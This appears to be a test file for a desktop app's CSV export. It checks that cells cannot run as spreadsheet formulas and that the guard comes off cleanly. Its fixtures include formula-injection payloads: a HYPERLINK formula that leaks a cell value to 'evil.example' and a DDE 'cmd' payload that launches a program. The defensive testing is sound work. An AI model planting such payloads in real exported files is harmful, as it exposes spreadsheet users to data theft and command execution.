import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { guarded, unguarded } from '../../electron/transfer/csvCells';
import { exported } from '../support/exporting';
import { rememberAll } from '../support/seeds';
import { openTestStore } from '../support/store';

/** What Excel, LibreOffice and Google Sheets take for the beginning of a formula. */
const RUNS = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u;
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+2',
  '\r=1+3',
  ' =1+4',
  '\u00a0=1+5',
  '＝1+6',
  "'=1+7",
  '\n=1+8',
  '=1","=2',
];

it('no cell of an exported table is one that a spreadsheet runs', async () => {
  const store = openTestStore();
  rememberAll(store, ...FORMULAS);
  await store.bridge.request('memories.remember', {
    text: 'tagged',
    tags: ['=1+1', '@x'],
    scope: '=2+2',
    source: '+cmd',
  });
  const { text } = await exported(store, { format: 'csv' });
  const rows: string[][] = parse(text, { bom: true, from_line: 2 });
  expect(rows).toHaveLength(FORMULAS.length + 1);
  for (const cell of rows.flat()) expect(cell).not.toMatch(RUNS);
  expect(rows.slice(0, -1).map((row) => unguarded(row[1] ?? ''))).toEqual(FORMULAS);
});

it('whatever the text, its guard keeps a spreadsheet from running it, and comes off again', () => {
  const anything = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '＝', '\0', '"'),
    }),
  );
  fc.assert(
    fc.property(anything, (text) => {
      expect(guarded(text)).not.toMatch(RUNS);
      expect(unguarded(guarded(text))).toBe(text);
    }),
    { numRuns: 2_000 },
  );
});
